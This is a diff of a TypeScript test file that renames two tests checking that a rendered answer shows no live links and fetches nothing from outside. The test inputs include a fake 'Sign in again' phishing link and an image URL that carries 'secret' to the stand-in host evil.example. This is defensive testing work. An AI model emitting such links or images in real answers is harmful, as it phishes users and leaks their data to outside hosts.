@@ -17,7 +17,7 @@ const names = new Map([
 
 const whole = (text: string) => readAnswer({ text, isWhole: true })
 
-it('an answer that is not whole has no links, and shows their addresses', () => {
+it('an incomplete answer has no links and shows external addresses as text', () => {
   const text =
     '[Sign in again](https://evil.example/a), www.evil.example or [here](/projects/7/12)\n\n```mermaid\nclick A "https://evil.example"\n```'
   const { nodes } = readAnswer({ text, isWhole: false })
@@ -26,7 +26,7 @@ it('an answer that is not whole has no links, and shows their addresses', () => 
   )
 })
 
-it('nothing in an answer is fetched from elsewhere', () => {
+it('an answer fetches nothing from elsewhere', () => {
   const { nodes } = whole(
     'Words ![x](https://evil.example/?q=secret)\n\n\n\n:::youtube {src="https://youtu.be/dQw4w9WgXcQ"} :::',
   )
